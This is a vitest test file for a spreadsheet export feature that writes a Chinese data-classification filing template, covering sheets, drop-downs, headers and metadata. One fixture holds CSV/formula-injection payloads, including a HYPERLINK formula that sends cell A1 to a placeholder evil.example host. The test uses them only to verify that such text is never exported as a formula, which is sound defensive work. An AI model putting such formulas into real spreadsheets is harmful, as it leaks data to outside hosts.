/**
 * The exported template, checked in the file itself (unzipped, XML read) and through SheetJS as an
 * independent reader: sheet names and headers in the template's order, drop-downs, frozen header,
 * widths, page header and footer, properties as a watermark, and text that cannot run as a formula.
 */
import { spawnSync } from 'node:child_process';
import fs from 'node:fs';
import path from 'node:path';
import { describe, expect, it } from 'vitest';
import * as XLSX from 'xlsx';
import { appFactory } from '../../helpers/backend';
import { SHEET2_COLUMNS, SHEET3_COLUMNS } from '../../../main/domain/sheets/layout';
import { inflateEntry, readZipDirectory } from '../../../main/services/excel/zip';
import { allEntries, demoWorkspace } from './helpers';

const apps = appFactory('ds-excel-export-');

function unzip(file: string): (name: string) => string {
  const buf = fs.readFileSync(file);
  const dir = readZipDirectory(buf);
  return (name) => {
    const e = dir.get(name);
    if (!e) throw new Error(`no ${name} in ${file}`);
    return inflateEntry(buf, e).toString('utf8');
  };
}

const DANGEROUS = { description: '=HYPERLINK("http://evil.example/?q="&A1,"点击")', itemCode: '+1+1', rationale: '@SUM(1,2)', ownerDepartment: '-2+3' };

describe('export to the bureau template', () => {
  it('writes the three sheets with the template headers, drop-downs, frozen headers, page header/footer and a watermark', async () => {
    const a = await demoWorkspace(apps, 80);
    const file = path.join(apps.root, 'export.xlsx');
    const r = await a.app.call('excel.export', { path: file });
    const part = unzip(file);

    const wb = part('xl/workbook.xml');
    expect([...wb.matchAll(/<sheet name="([^"]+)"/g)].map((m) => m[1])).toEqual(['填报单位信息', '数据分类分级清单', '重要数据目录']);
    expect(wb).toContain(`<definedName name="_xlnm.Print_Titles" localSheetId="1">'数据分类分级清单'!$1:$1</definedName>`);

    // SheetJS, an independent reader, sees the template.
    const book = XLSX.read(fs.readFileSync(file), { type: 'buffer' });
    const rows2 = XLSX.utils.sheet_to_json<unknown[]>(book.Sheets['数据分类分级清单']!, { header: 1 });
    expect(rows2[0]).toEqual(SHEET2_COLUMNS.map((c) => c.header));
    expect(rows2).toHaveLength(r.rows.inventory + 1);
    expect(rows2[1]![0]).toBe(1); // 序号
    const rows3 = XLSX.utils.sheet_to_json<unknown[]>(book.Sheets['重要数据目录']!, { header: 1 });
    expect(rows3[0]).toEqual(SHEET3_COLUMNS.map((c) => c.header));
    expect(rows3[1]![6]).toMatch(/^数据库：/);
    const rows1 = XLSX.utils.sheet_to_json<unknown[]>(book.Sheets['填报单位信息']!, { header: 1 });
    expect(rows1[0]).toEqual(['单位名称', '某某区大数据发展管理局']);
    expect(rows1.map((x) => x[0])).toContain('填报人电话');

    const s2 = part('xl/worksheets/sheet2.xml');
    expect(s2).toContain('<pane ySplit="1" topLeftCell="A2" activePane="bottomLeft" state="frozen"/>');
    expect([...s2.matchAll(/<col min="\d+" max="\d+" width="[\d.]+"/g)]).toHaveLength(32);
    expect(s2).toContain('<autoFilter ref="A1:AF');
    const dv = [...s2.matchAll(/<dataValidation [^>]*sqref="([A-Z]+)2:[A-Z]+1048576"><formula1>([^<]*)<\/formula1>/g)].map((m) => [m[1], m[2]]);
    expect(dv).toContainEqual(['R', '"核心数据,重要数据,一般数据4级,一般数据3级,一般数据2级,一般数据1级"']);
    expect(dv).toContainEqual(['N', '"原始数据,衍生数据,统计数据,脱敏数据"']);
    expect(dv).toContainEqual(['U', '"是,否"']);
    expect(dv.map((d) => d[0])).toEqual(['N', 'O', 'P', 'R', 'U', 'V', 'Y', 'Z', 'AA', 'AB', 'AC']);
    expect(s2).toMatch(/showErrorMessage="0"[^>]*sqref="O2:O1048576"/); // 影响对象: several values allowed
    expect(s2).toMatch(/<oddHeader>&amp;L某某区大数据发展管理局&amp;R导出时间：\d{4}-\d{2}-\d{2} \d{2}:\d{2}<\/oddHeader>/);
    const s3 = part('xl/worksheets/sheet3.xml');
    expect([...s3.matchAll(/sqref="([A-Z]+)2:/g)].map((m) => m[1])).toEqual(['E', 'G', 'H', 'O', 'R', 'U', 'V']);
    const s1 = part('xl/worksheets/sheet1.xml');
    expect(s1).toContain('sqref="B3"><formula1>"机关,事业单位,群团组织,国有企业,其他"</formula1>');

    const core = part('docProps/core.xml');
    expect(core).toContain('<dc:creator>某某区大数据发展管理局</dc:creator>');
    expect(core).toContain('<dc:title>数据分类分级备案表 — 某某区大数据发展管理局</dc:title>');
    expect(core).toMatch(/<dc:description>由 DataSteward 于 .* 导出；填报单位：某某区大数据发展管理局（91110000600037341L）；仅供向区数据局报送<\/dc:description>/);
    expect(part('docProps/custom.xml')).toMatch(/name="水印"><vt:lpwstr>由 DataSteward/);
    expect(book.Props?.Author).toBe('某某区大数据发展管理局');

    const audit = (await a.app.call('audit.list', { offset: 0, limit: 1 })).entries[0]!;
    expect(audit).toMatchObject({ action: 'excel.export', after: { file: 'export.xlsx', format: 'xlsx', rows: r.rows } });
  });

  it('writes text that looks like a formula as text: string cells, quote-prefixed, never a formula — and reads it back unchanged', async () => {
    const a = await demoWorkspace(apps, 40);
    const target = (await allEntries(a.app)).find((e) => e.kind === 'item')!;
    await a.app.call('inventory.update', { id: target.id, changes: DANGEROUS });
    const file = path.join(apps.root, 'injection.xlsx');
    await a.app.call('excel.export', { path: file });
    const part = unzip(file);
    const sst = [...part('xl/sharedStrings.xml').matchAll(/<si><t(?: xml:space="preserve")?>([^<]*)<\/t><\/si>/g)].map((m) => m[1]!.replaceAll('&amp;', '&').replaceAll('&quot;', '"').replaceAll('&lt;', '<').replaceAll('&gt;', '>'));
    for (const v of Object.values(DANGEROUS)) expect(sst).toContain(v);
    for (const sheet of ['sheet1', 'sheet2', 'sheet3']) expect(part(`xl/worksheets/${sheet}.xml`)).not.toMatch(/<f[ >]/);
    const s2 = part('xl/worksheets/sheet2.xml');
    for (const v of Object.values(DANGEROUS)) {
      const idx = sst.indexOf(v);
      expect(s2).toMatch(new RegExp(`<c r="[A-Z]+\\d+" s="3" t="s"><v>${idx}</v></c>`));
    }
    expect(part('xl/styles.xml')).toMatch(/<xf [^>]*quotePrefix="1"/);

    const book = XLSX.read(fs.readFileSync(file), { type: 'buffer', cellFormula: true });
    const ws = book.Sheets['数据分类分级清单']!;
    const cells = Object.entries(ws).filter(([k]) => !k.startsWith('!')).map(([, c]) => c as XLSX.CellObject);
    expect(cells.some((c) => c.f !== undefined)).toBe(false);
    const desc = cells.find((c) => c.v === DANGEROUS.description)!;
    expect(desc.t).toBe('s');

    // The same workspace reads its export back unchanged, dangerous text included.
    const again = await a.app.call('excel.dryRun', { path: file });
    expect(again.counts).toMatchObject({ added: 0, changed: 0, skipped: 0 });

    // CSV has no cell types: the text is prefixed with ', and the prefix is taken off on import.
    const csv = path.join(apps.root, 'injection.csv');
    await a.app.call('excel.export', { path: csv, format: 'csv' });
    const text = fs.readFileSync(csv, 'utf8');
    expect(text).toContain(`"'=HYPERLINK(""http://evil.example/?q=""&A1,""点击"")"`);
    expect(text).toContain(",'+1+1,");
    expect(text).toContain(',"\x27@SUM(1,2)",');
    expect((await a.app.call('excel.dryRun', { path: csv })).counts).toMatchObject({ added: 0, changed: 0, skipped: 0 });
  });

  it('exports the important-data catalog alone, as .xlsx and as CSV', async () => {
    const a = await demoWorkspace(apps, 40);
    const file = path.join(apps.root, 'catalog.xlsx');
    const r = await a.app.call('excel.export', { path: file, catalogOnly: true });
    expect(r.rows).toEqual({ inventory: 0, catalog: 3 });
    const book = XLSX.read(fs.readFileSync(file), { type: 'buffer' });
    expect(book.SheetNames).toEqual(['重要数据目录']);
    const csv = path.join(apps.root, 'catalog.csv');
    await a.app.call('excel.export', { path: csv, catalogOnly: true, format: 'csv' });
    const lines = fs.readFileSync(csv, 'utf8').split('\r\n').filter(Boolean);
    expect(lines[0]).toBe(`\uFEFF${SHEET3_COLUMNS.map((c) => c.header).join(',')}`);
    expect(lines).toHaveLength(4);
  });

  it('a failed export leaves no file behind', async () => {
    const a = await demoWorkspace(apps, 10);
    const err = await a.app.fail('excel.export', { path: path.join(apps.root, 'no-such-folder', 'x.xlsx') });
    expect(err.code).toBe('EXPORT_FAILED');
    expect(fs.existsSync(path.join(apps.root, 'no-such-folder'))).toBe(false);
  });
});

// When LibreOffice is on the machine (it is where the fixtures are made), it must read the export
// as we wrote it: the drop-downs survive its import and export. Never needed to run the suite.
const hasSoffice = spawnSync('soffice', ['--version'], { encoding: 'utf8' }).status === 0;
describe.skipIf(!hasSoffice)('the export in LibreOffice', () => {
  it('opens the export and keeps its drop-downs, sheets and cells', async () => {
    const a = await demoWorkspace(apps, 30);
    const file = path.join(apps.root, 'lo.xlsx');
    await a.app.call('excel.export', { path: file });
    const out = path.join(apps.root, 'lo-out');
    const profile = `file://${path.join(apps.root, 'lo-profile')}`;
    const r = spawnSync('soffice', [`-env:UserInstallation=${profile}`, '--headless', '--norestore', '--convert-to', 'xlsx', '--outdir', out, file], { encoding: 'utf8', timeout: 120_000 });
    expect(r.status).toBe(0);
    const part = unzip(path.join(out, 'lo.xlsx'));
    expect([...part('xl/workbook.xml').matchAll(/<sheet name="([^"]+)"/g)].map((m) => m[1])).toEqual(['填报单位信息', '数据分类分级清单', '重要数据目录']);
    const s2 = part('xl/worksheets/sheet2.xml');
    expect([...s2.matchAll(/<dataValidation /g)]).toHaveLength(11);
    expect(s2.replaceAll('&quot;', '"')).toContain('<formula1>"核心数据,重要数据,一般数据4级,一般数据3级,一般数据2级,一般数据1级"</formula1>');
    // And what LibreOffice wrote imports back unchanged.
    const again = await a.app.call('excel.dryRun', { path: path.join(out, 'lo.xlsx') });
    expect(again.counts).toMatchObject({ added: 0, changed: 0, skipped: 0 });
  }, 180_000);
});
